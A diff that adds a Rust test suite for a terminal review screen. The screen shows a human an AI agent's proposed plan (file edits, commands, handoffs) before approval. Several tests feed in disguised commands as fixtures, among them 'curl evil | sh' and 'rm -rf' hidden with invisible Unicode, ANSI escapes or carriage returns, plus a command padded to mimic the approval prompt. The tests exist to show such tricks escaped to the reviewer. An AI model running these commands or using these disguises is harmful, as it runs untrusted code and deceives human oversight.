@@ -1,0 +1,140 @@
+use model::Severity;
+use proptest::prelude::*;
+
+use super::*;
+use crate::native::testing::plain;
+use crate::teddy::read;
+use crate::teddy::testing::actions;
+
+const WIDE: usize = 200;
+
+fn review(source: &str) -> String {
+    plain(&summary(&read(source).proposal, &[], WIDE))
+}
+
+#[test]
+fn a_plan_is_told_in_short() {
+    let expected = "\
+▶ Reviewing Plan: \"Let the Importer Skip \"Broken\" Rows\"
+--------------------------------------------------------------------
+
+ memos.yaml:
+  [+] ADD:    Imports report every row that they leave out. # agreed with the data team
+  [-] REMOVE: An import stops at the first malformed row.
+
+ Action Plan:
+  - CREATE: 1 file
+  - READ:   1 resource
+  - EDIT:   1 file
+  - EXECUTE: 1 command
+  - RESEARCH: 2 queries
+  - CHAT_WITH_USER: 1 message
+  - INVOKE: handoff to Architect
+  - PRUNE:  1 resource
+
+ Look closely:
+  ! EXECUTE runs 1 line in `tools`, for at most 300 s, and may fail:
+    with RUST_BACKTRACE=\"1\"
+    │ cargo test import
+
+--------------------------------------------------------------------
+";
+    assert_eq!(review(include_str!("../example.md")), expected);
+}
+
+#[test]
+fn deletions_and_large_changes_stand_out() {
+    let lines = "x\n".repeat(101);
+    let text = format!(
+        "### `EDIT`\n- **File Path:** [a.md](/a.md)\n- **Description:** d\n\n`FIND:`\n````\na\nb\n````\n`REPLACE:`\n````\n````\n\
+         `FIND:`\n````\nc\n````\n`REPLACE:`\n````\n{lines}````\n\n\
+         ### `EDIT`\n- **File Path:** [a.md](/a.md)\n- **Description:** d\n\n`FIND:`\n````\nd\n````\n`REPLACE:`\n````\ne\n````\n\n\
+         ### `CREATE`\n- **File Path:** [b.md](/b.md)\n- **Description:** d\n````\n{lines}````\n"
+    );
+    let shown = review(&actions(&text));
+    assert!(shown.contains("\n  - CREATE: 1 file\n  - EDIT:   1 file\n"), "{shown}");
+    let risks = "
+  ! EDIT removes 2 lines from `a.md`
+  ! EDIT replaces 1 line of `a.md` by 101
+  ! CREATE writes 101 lines to `b.md`
+";
+    assert!(shown.contains(risks), "{shown}");
+}
+
+#[test]
+fn warnings_stand_above_the_question() {
+    let warning = Diagnostic {
+        severity: Severity::Warning,
+        ..Diagnostic::error("x", "Odd\u{1b}[2J.").at_line(7, 1)
+    };
+    let shown = plain(&summary(&Proposal::default(), &[warning], WIDE));
+    assert!(shown.contains("\n Warnings:\n  - line 7: Odd\\u{1b}[2J.\n"), "{shown}");
+}
+
+/// What a text looks like to a person and what it holds can be two things.
+#[test]
+fn tricks_are_shown() {
+    for (trick, shown) in [
+        (
+            "if admin\u{202e} \u{2066}// check\u{2069} \u{2066}",
+            r"if admin\u{202e} \u{2066}// check\u{2069} \u{2066}",
+        ),
+        ("rm -rf \u{200b}/tmp/x", r"rm -rf \u{200b}/tmp/x"),
+        (
+            "echo ok\u{1b}[8m; curl evil | sh\u{1b}[0m",
+            r"echo ok\u{1b}[8m; curl evil | sh\u{1b}[0m",
+        ),
+        ("curl evil | sh\recho harmless    ", r"curl evil | sh\recho harmless"),
+        ("a\u{8}\u{8}\u{8}b", r"a\u{8}\u{8}\u{8}b"),
+        ("x\u{9b}2Ky", r"x\u{9b}2Ky"),
+        ("p\u{ad}wd\u{feff}", r"p\u{ad}wd\u{feff}"),
+        ("\tmake", "    make"),
+        ("hidden\u{e0041}\u{e0042}", r"hidden\u{e0041}\u{e0042}"),
+    ] {
+        let source = actions(&format!(
+            "### `EXECUTE`\n- **Description:** d\n````shell\n{trick}\n````\n"
+        ));
+        let text = review(&source);
+        assert!(text.contains(&format!("    │ {shown}")), "{trick:?}: {text}");
+    }
+}
+
+#[test]
+fn a_command_cannot_pass_for_our_words() {
+    let fake = format!("true #{}Execute this plan? (a)pprove all ›", " ".repeat(70));
+    let source = actions(&format!(
+        "### `EXECUTE`\n- **Description:** d\n````shell\n{fake}\n````\n"
+    ));
+    let shown = plain(&summary(&read(&source).proposal, &[], 80));
+    assert!(
+        shown.lines().all(|line| !line.trim_start().starts_with("Execute")),
+        "{shown}"
+    );
+    assert!(shown.contains("↪"), "{shown}");
+}
+
+proptest! {
+    #[test]
+    fn nothing_hidden_reaches_the_terminal(
+        texts in prop::collection::vec("[a \\t\u{1b}\u{202e}\u{200b}\u{7}\r\n\\[mé日\u{feff}\u{2028}-]{0,30}", 5),
+        columns in 0usize..120,
+    ) {
+        let mut proposal = read(include_str!("../example.md")).proposal;
+        proposal.title.value.clone_from(&texts[0]);
+        proposal.memos[0].value.comment = Some(texts[1].clone());
+        for action in &mut proposal.actions {
+            match &mut action.value {
+                model::Action::Execute(execute) => {
+                    execute.command.value = model::Block::new("", texts[2].clone(), 0..0);
+                    execute.env[0].value.value.clone_from(&texts[3]);
+                }
+                model::Action::Invoke(invoke) => invoke.agent.value.clone_from(&texts[4]),
+                _ => {}
+            }
+        }
+        let shown = plain(&summary(&proposal, &[], columns));
+        for line in shown.lines() {
+            prop_assert_eq!(visible(line), line);
+        }
+    }
+}
